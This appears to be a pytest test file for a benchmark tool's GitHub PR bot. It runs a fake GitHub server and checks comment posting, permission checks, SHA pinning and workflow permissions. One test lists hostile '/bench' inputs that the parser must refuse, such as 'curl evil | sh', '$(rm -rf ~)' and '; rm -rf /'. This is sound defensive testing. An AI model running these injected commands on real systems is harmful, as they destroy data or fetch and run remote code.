"""The PR bot against a small GitHub stand-in on 127.0.0.1, and the /bench command parser."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from factories import one_step_doc
from refbench.render.markdown import COMMENT_MARKER
from refbench.errors import RefbenchError
from refbench.github import find_own_comment, parse_bench_command

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "ghs_test-token-123"


fake_results = one_step_doc  # one step where the contender is ~30% slower


class FakeGitHub:
    """list / create / update issue comments, with a switch to answer with an error instead."""

    def __init__(self):
        self.comments: list[dict] = [
            {"id": 11, "body": "LGTM, but please run the benchmark", "user": {"login": "maintainer"}},
            {"id": 12, "body": f"> {COMMENT_MARKER}\n> quoting the bot is not the bot",
             "user": {"login": "someone"}},
        ]
        self.requests: list[dict] = []
        self.fail: tuple[int, dict, dict] | None = None  # (status, json body, headers)
        self.next_id = 100
        self.page_size = 1  # tiny pages, so pagination (the Link header) is exercised
        self.login = "github-actions[bot]"  # who the token posts as
        self.pulls: list[dict] = []  # {"number", "head": {"sha", "ref", "repo": {"full_name"}}, "base": {"sha"}}
        # login -> (base permission, role name), as GET .../collaborators/LOGIN/permission answers
        self.permissions: dict[str, tuple[str, str]] = {"maintainer": ("write", "maintain")}
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def _send(self, code, payload, headers=None):
                data = json.dumps(payload).encode()
                self.send_response(code)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                for k, v in (headers or {}).items():
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(data)

            def _handle(self, method):
                n = int(self.headers.get("Content-Length") or 0)
                raw = self.rfile.read(n) if n else b""
                fake.requests.append({"method": method, "path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()},
                                      "body": json.loads(raw) if raw else None})
                if fake.fail:
                    code, payload, headers = fake.fail
                    return self._send(code, payload, headers)
                path, _, query = self.path.partition("?")
                parts = path.strip("/").split("/")
                # /api/v3/repos/OWNER/NAME/issues/N/comments  |  /api/v3/repos/OWNER/NAME/issues/comments/ID
                if parts[:2] != ["api", "v3"] or parts[2] != "repos" or parts[3:5] != ["acme", "tool"]:
                    return self._send(404, {"message": "Not Found"})
                rest = parts[5:]
                if method == "GET" and len(rest) == 3 and rest[0] == "issues" and rest[2] == "comments":
                    page = int(dict(q.split("=") for q in query.split("&") if "=" in q).get("page", 1))
                    chunk = fake.comments[(page - 1) * fake.page_size: page * fake.page_size]
                    headers = {}
                    if page * fake.page_size < len(fake.comments):
                        base = f"http://127.0.0.1:{fake.port}{path}"
                        headers["Link"] = f'<{base}?per_page=100&page={page + 1}>; rel="next"'
                    return self._send(200, chunk, headers)
                if method == "GET" and len(rest) == 2 and rest[0] == "pulls":
                    for p in fake.pulls:
                        if p["number"] == int(rest[1]):
                            return self._send(200, p)
                    return self._send(404, {"message": "Not Found"})
                if method == "GET" and len(rest) == 3 and rest[0] == "collaborators" and rest[2] == "permission":
                    login = urllib.parse.unquote(rest[1])
                    if login not in fake.permissions:
                        return self._send(404, {"message": "Not Found"})
                    perm, role = fake.permissions[login]
                    return self._send(200, {"permission": perm, "role_name": role, "user": {"login": login}})
                if method == "GET" and rest == ["pulls"]:
                    q = urllib.parse.parse_qs(query)
                    owner, _, ref = q.get("head", [":"])[0].partition(":")
                    return self._send(200, [p for p in fake.pulls if p["head"]["ref"] == ref
                                            and p["head"]["repo"]["full_name"].split("/")[0] == owner])
                if method == "POST" and len(rest) == 3 and rest[0] == "issues" and rest[2] == "comments":
                    c = {"id": fake.next_id, "body": json.loads(raw)["body"], "user": {"login": fake.login},
                         "html_url": f"https://github.invalid/acme/tool/pull/{rest[1]}#c{fake.next_id}"}
                    fake.next_id += 1
                    fake.comments.append(c)
                    return self._send(201, c)
                if method == "PATCH" and len(rest) == 3 and rest[:2] == ["issues", "comments"]:
                    for c in fake.comments:
                        if c["id"] == int(rest[2]):
                            c["body"] = json.loads(raw)["body"]
                            return self._send(200, {**c, "html_url": f"https://github.invalid/c{c['id']}"})
                    return self._send(404, {"message": "Not Found"})
                return self._send(404, {"message": "Not Found"})

            def do_GET(self):
                self._handle("GET")

            def do_POST(self):
                self._handle("POST")

            def do_PATCH(self):
                self._handle("PATCH")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/api/v3"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def gh():
    server = FakeGitHub()
    yield server
    server.close()


@pytest.fixture
def results_file(tmp_path) -> Path:
    path = tmp_path / "results.json"
    path.write_text(json.dumps(fake_results()))
    return path


def bench(*args, env=None, stdin=None):
    full = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GITHUB_API_URL", "GITHUB_REPOSITORY")}
    full.update(env or {})
    return subprocess.run([sys.executable, str(ROOT / "bench.py"), *args], capture_output=True, text=True,
                          env=full, input=stdin, timeout=120)


def post(gh, results_file, *extra, token=TOKEN):
    env = {"GITHUB_API_URL": gh.url, **({"GITHUB_TOKEN": token} if token else {})}
    return bench("comment", "--repo", "acme/tool", "--pr", "7", str(results_file), *extra, env=env)


def test_creates_then_updates_its_own_comment(gh, results_file):
    first = post(gh, results_file)
    assert first.returncode == 0, first.stderr
    assert "created" in first.stderr
    # it read every page of comments, then created one
    methods = [(r["method"], r["path"].split("?")[0]) for r in gh.requests]
    assert methods[-1] == ("POST", "/api/v3/repos/acme/tool/issues/7/comments")
    assert [m for m, _ in methods].count("GET") == 2  # two pages of one comment
    create = gh.requests[-1]
    assert create["headers"]["authorization"] == f"Bearer {TOKEN}"
    assert create["headers"]["accept"] == "application/vnd.github+json"
    assert create["headers"]["x-github-api-version"] == "2022-11-28"
    body = create["body"]["body"]
    assert body.startswith(COMMENT_MARKER)
    assert "small files" in body and "remove" in body and "slower" in body
    assert (results_file.parent / "pr-comment.md").read_text() == body

    # a second run (new results) updates that comment instead of adding one
    res = json.loads(results_file.read_text())
    res["scenarios"][0]["steps"][0]["comparisons"][0]["verdict"] = "no significant change"
    results_file.write_text(json.dumps(res))
    gh.requests.clear()
    second = post(gh, results_file)
    assert second.returncode == 0, second.stderr
    assert "updated" in second.stderr
    assert [r["method"] for r in gh.requests if r["method"] != "GET"] == ["PATCH"]
    patch = gh.requests[-1]
    assert patch["path"] == "/api/v3/repos/acme/tool/issues/comments/100"
    assert patch["headers"]["authorization"] == f"Bearer {TOKEN}"
    assert "no significant change" in patch["body"]["body"]
    bots = [c for c in gh.comments if find_own_comment([c])]
    assert len(bots) == 1 and len(gh.comments) == 3  # the quoted marker (id 12) was not mistaken for ours


@pytest.mark.parametrize("status,payload,headers,expect", [
    (401, {"message": "Bad credentials"}, {}, "401"),
    (403, {"message": "Resource not accessible by integration"}, {}, "pull-requests: write"),
    (404, {"message": "Not Found"}, {}, "not found"),
    (422, {"message": "Validation Failed", "errors": [{"message": "body is too long"}]}, {}, "body is too long"),
    (403, {"message": "API rate limit exceeded for installation"},
     {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": str(int(time.time()) + 600)}, "resets at"),
    (429, {"message": "You have exceeded a secondary rate limit"}, {"Retry-After": "60"}, "retry after 60 s"),
])
def test_api_errors_are_one_line_exit_2_and_keep_the_body(gh, results_file, status, payload, headers, expect):
    gh.fail = (status, payload, headers)
    proc = post(gh, results_file)
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert expect in lines[0] and "Traceback" not in proc.stderr
    assert "pr-comment.md" in lines[0]
    assert (results_file.parent / "pr-comment.md").read_text().startswith(COMMENT_MARKER)


def test_unreachable_api_and_missing_token(results_file, tmp_path):
    import socket
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()  # nothing listens there now
    out = tmp_path / "body.md"
    proc = bench("comment", "--repo", "acme/tool", "--pr", "7", str(results_file), "--body-out", str(out),
                 env={"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": f"http://127.0.0.1:{port}"})
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "cannot reach" in proc.stderr and out.exists()
    proc = bench("comment", "--repo", "acme/tool", "--pr", "7", str(results_file), "--body-out", str(out))
    assert proc.returncode == 2 and "GITHUB_TOKEN" in proc.stderr and out.exists()


def test_dry_run_prints_the_body(results_file):
    proc = bench("comment", str(results_file), "--dry-run")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(COMMENT_MARKER)


@pytest.mark.parametrize("spoil,says", [
    (lambda r: r["scenarios"][0]["steps"][0].pop("comparisons"), "has no 'comparisons'"),
    (lambda r: r["scenarios"][0]["steps"][0]["comparisons"][0].pop("verdict"), "has no 'verdict'"),
    (lambda r: r["scenarios"][0]["steps"][0]["comparisons"][0].update(verdict="worse"), "'worse' is not one of"),
    (lambda r: r.update(builds="x"), "builds should be list"),
    (lambda r: r["scenarios"][0].pop("fixture"), "has no 'fixture'"),
])
def test_a_malformed_results_file_is_one_line_and_exit_2_for_every_reader(tmp_path, spoil, says):
    results = fake_results()
    spoil(results)
    path = tmp_path / "results.json"
    path.write_text(json.dumps(results))
    for args in (("comment", str(path), "--dry-run"), ("report", str(path)), ("compare", str(path), str(path))):
        proc = bench(*args)
        assert proc.returncode == 2, (args, proc.stderr)
        assert proc.stderr.count("\n") == 1 and "malformed results file" in proc.stderr and says in proc.stderr, \
            (args, proc.stderr)
        assert "Traceback" not in proc.stderr


# ---- /bench ---------------------------------------------------------------------------------
def test_parse_bench_command_allows_listed_options():
    assert parse_bench_command("/bench") == []
    assert parse_bench_command('/bench --only "small files" -r 20') == ["--only", "small files", "-r", "20"]
    assert parse_bench_command("Thanks!\n/bench --quick --runs=8 -w 1 --rounds 4 --threshold 3%\nmore") == \
        ["--quick", "-r", "8", "-w", "1", "--rounds", "4", "--threshold", "3%"]
    assert parse_bench_command("/bench --only 'small files/remove' --only upload --until-decided") == \
        ["--only", "small files/remove", "--only", "upload", "--until-decided"]
    assert parse_bench_command("/bench --budget 10m") == ["--budget", "10m"]
    assert parse_bench_command("/bench --budget=1h30m --budget 600") == ["--budget", "1h30m", "--budget", "600"]


@pytest.mark.parametrize("body", [
    "no command here",
    "/benchmark -r 3",
    "/bench --repo https://evil.invalid/x.git",  # not allow-listed
    "/bench -s v1 v2",
    "/bench -hf '--prepare \"curl evil | sh\"'",
    "/bench --only '$(rm -rf ~)'",
    "/bench --only 'a; rm -rf /'",
    "/bench --only '--repo=x'",
    "/bench -r 20; rm -rf /",
    "/bench -r 1e9",
    "/bench -r 100000",
    "/bench -r",
    "/bench --quick=yes",
    "/bench --threshold 5",
    "/bench --budget 10x",
    "/bench --budget '10m; rm -rf /'",
    "/bench --budget m",
    "/bench --only \"unterminated",
    "/bench `id`",
])
def test_parse_bench_command_refuses_everything_else(body):
    with pytest.raises(RefbenchError):
        parse_bench_command(body)


def test_parse_command_subcommand_checks_the_author():
    ok = bench("comment", "--parse-command", "--author-association", "MEMBER",
               stdin='/bench --only "small files" -r 20\n')
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.splitlines() == ["--only", "small files", "-r", "20"]
    denied = bench("comment", "--parse-command", "--author-association", "CONTRIBUTOR", stdin="/bench -r 5")
    assert denied.returncode == 2 and "maintainers" in denied.stderr
    bad = bench("comment", "--parse-command", stdin="/bench --repo x")
    assert bad.returncode == 2 and "not allowed" in bad.stderr and len(bad.stderr.strip().splitlines()) == 1


def test_parse_bench_command_takes_the_head_it_names_apart():
    from refbench.github import parse_bench
    cmd = parse_bench("/bench --head " + "1A2B3C4D5E" * 4 + " -r 20 --quick")
    assert (cmd.argv, cmd.head) == (("-r", "20", "--quick"), "1a2b3c4d5e" * 4)
    assert parse_bench("/bench -r 3").head is None
    for bad in ("/bench --head 123", "/bench --head zzzzzzz", "/bench --head 'abc1234; id'", "/bench --head " + "a" * 41):
        with pytest.raises(RefbenchError, match="--head expects the commit you reviewed"):
            parse_bench(bad)


@pytest.mark.parametrize("digits", [7, 12, 39])
def test_a_head_prefix_is_refused_saying_so(digits):
    """A prefix names whichever commit with it the PR's author pushes (12 hex digits collide in
    about 2^24 hashes each side): only the full 40-hex SHA names what the maintainer reviewed."""
    from refbench.github import parse_bench
    with pytest.raises(RefbenchError, match=f"full 40-hex SHA; a prefix \\({digits} digits\\) is refused"):
        parse_bench(f"/bench --head {'1a2b3c4d5e' * 4}"[:len("/bench --head ") + digits] + " -r 3")


HEAD_SHA, BASE_SHA = "c" * 40, "b" * 40


def the_pr(sha=HEAD_SHA) -> dict:
    return {"number": 7, "head": {"sha": sha, "ref": "faster", "repo": {"full_name": "contributor/tool"}},
            "base": {"sha": BASE_SHA}}


def check(gh, body, commenter="maintainer", *extra):
    return bench("comment", "--check-command", "--repo", "acme/tool", "--pr", "7", "--commenter", commenter, *extra,
                 env={"GITHUB_API_URL": gh.url, "GITHUB_TOKEN": TOKEN}, stdin=body)


def test_check_command_accepts_write_access_and_the_head_as_it_is(gh, tmp_path):
    gh.pulls = [the_pr()]
    refs = tmp_path / "refs"
    ok = check(gh, f"/bench --head {HEAD_SHA} -r 20", "maintainer", "--refs-out", str(refs))
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.splitlines() == ["-r", "20"] and refs.read_text() == f"{BASE_SHA} {HEAD_SHA}\n"
    assert any(q["path"] == "/api/v3/repos/acme/tool/collaborators/maintainer/permission" for q in gh.requests)


@pytest.mark.parametrize("who,role", [("outsider", None), ("reader", ("read", "read")), ("triager", ("read", "triage"))])
def test_check_command_refuses_a_commenter_without_write_access(gh, tmp_path, who, role):
    """author_association MEMBER or COLLABORATOR is not write access: the API's role is what counts."""
    gh.pulls = [the_pr()]
    if role:
        gh.permissions[who] = role
    refused = check(gh, f"/bench --head {HEAD_SHA}", who, "--author-association", "COLLABORATOR", "--reply")
    assert refused.returncode == 2 and "needs write access" in refused.stderr, refused.stderr
    (reply,) = [q for q in gh.requests if q["method"] == "POST"]
    assert "needs write access" in reply["body"]["body"] and "was not run" in reply["body"]["body"]


def test_check_command_refuses_a_head_that_moved_or_is_not_named(gh):
    gh.pulls = [the_pr(sha="d" * 40)]  # pushed to after the comment
    moved = check(gh, f"/bench --head {HEAD_SHA} -r 5", "maintainer", "--reply")
    assert moved.returncode == 2 and "moved since the comment" in moved.stderr and moved.stdout == ""
    assert f"/bench --head {'d' * 40}`" in gh.requests[-1]["body"]["body"]
    unnamed = check(gh, "/bench -r 5")
    assert unnamed.returncode == 2 and "names no commit" in unnamed.stderr
    assert [q["method"] for q in gh.requests].count("POST") == 1  # no --reply: no reply


def test_check_command_refuses_a_12_hex_prefix_of_the_head_in_one_line(gh, tmp_path):
    """Even when the prefix is the PR's head as it is now: another commit can share it."""
    gh.pulls = [the_pr()]
    refs = tmp_path / "refs"
    short = check(gh, f"/bench --head {HEAD_SHA[:12]} -r 5", "maintainer", "--refs-out", str(refs), "--reply")
    assert short.returncode == 2 and short.stdout == "" and not refs.exists()
    (line,) = short.stderr.strip().splitlines()
    assert "full 40-hex SHA" in line and "prefix (12 digits) is refused" in line, line
    (reply,) = [q for q in gh.requests if q["method"] == "POST"]
    assert "was not run" in reply["body"]["body"] and "40-hex" in reply["body"]["body"]


def test_the_building_job_takes_the_commits_the_check_accepted_and_asks_the_api_nothing(gh, tmp_path):
    """The check job accepted cccc…; the PR was pushed to (dddd…) before the bench job ran. The
    bench job builds cccc…: it reads the check job's outputs, not the PR's head."""
    gh.pulls = [the_pr(sha="d" * 40)]
    refs = tmp_path / "refs"
    args = ("--check-command", "--repo", "acme/tool", "--pr", "7", "--refs-out", str(refs))
    env = {"GITHUB_API_URL": gh.url, "GITHUB_TOKEN": TOKEN}
    ok = bench("comment", *args, "--accepted-base", BASE_SHA, "--accepted-head", HEAD_SHA, env=env,
               stdin=f"/bench --head {HEAD_SHA} -r 5")
    assert ok.returncode == 0, ok.stderr
    assert refs.read_text() == f"{BASE_SHA} {HEAD_SHA}\n" and ok.stdout.splitlines() == ["-r", "5"]
    assert gh.requests == []  # neither the PR nor the commenter's role was read again
    for body, base, head, says in ((f"/bench --head {'d' * 40}", BASE_SHA, HEAD_SHA, "the check accepted cccc"),
                                   (f"/bench --head {HEAD_SHA}", BASE_SHA, HEAD_SHA[:12], "no head commit"),
                                   (f"/bench --head {HEAD_SHA}", "", HEAD_SHA, "no base commit")):
        refs.unlink(missing_ok=True)
        bad = bench("comment", *args, "--accepted-base", base, "--accepted-head", head, env=env, stdin=body)
        assert bad.returncode == 2 and says in bad.stderr and not refs.exists(), bad.stderr
        assert len(bad.stderr.strip().splitlines()) == 1


def test_example_workflows_pass_actionlint():
    import glob
    import shutil
    actionlint = shutil.which("actionlint") or str(ROOT / "tools" / "bin" / "actionlint")
    if not Path(actionlint).exists():
        pytest.fail("actionlint not installed: run `make setup` (scripts/setup.sh installs it)")
    files = sorted(glob.glob(str(ROOT / ".github" / "workflows" / "*.yml")))
    assert len(files) >= 4
    proc = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    text = {Path(f).name: Path(f).read_text() for f in files}
    # the job that runs PR code has no write permission; the ones with write permission run no PR code
    # (bench-command.yml: check and comment, with write, run none; bench runs the PR's code read-only)
    top, jobs = text["bench-command.yml"].split("\njobs:\n")
    check, rest = jobs.split("\n  bench:\n")
    command_bench, command_comment = rest.split("\n  comment:\n")
    assert ": write" not in top and ": write" not in text["bench-pr.yml"] and "secrets." not in text["bench-pr.yml"]
    assert ": write" not in command_bench and "secrets." not in command_bench and "mode: check" not in command_bench
    for writer, mode in ((check, "check"), (command_comment, "comment")):
        assert f"mode: {mode}" in writer and "checkout" not in writer and "secrets." not in writer
    assert "needs: check" in command_bench and "bench-command: ${{ github.event.comment.body }}" in command_bench
    # the bench job builds what the check job accepted, handed over as its outputs
    assert "head-sha: ${{ steps.check.outputs.head-sha }}" in check
    assert "base-sha: ${{ needs.check.outputs.base-sha }}" in command_bench
    assert "head-sha: ${{ needs.check.outputs.head-sha }}" in command_bench
    # nightly.yml: the job that runs the benchmark reads; the one that pushes runs none of it
    night, push = text["nightly.yml"].split("\n  history:\n")
    assert ": write" not in night and "contents: write" in push
    assert "bench.py" not in push and "scripts/" not in push and push.count("actions/checkout@v4") == 1
    assert "pull_request_target" not in "".join(text.values())
    assert "workflow_run:" in text["bench-comment.yml"] and "pull-requests: write" in text["bench-comment.yml"]
    # the comment's text reaches the Action as an input, never a script: no run: block interpolates it
    runs = [block for t in text.values() for block in t.split("run: |")[1:]]
    assert runs and not any("github.event.comment" in b.split("\n      - ")[0] for b in runs)
    assert "--check-command" in text["bench-command.yml"] and "author_association" in text["bench-command.yml"]
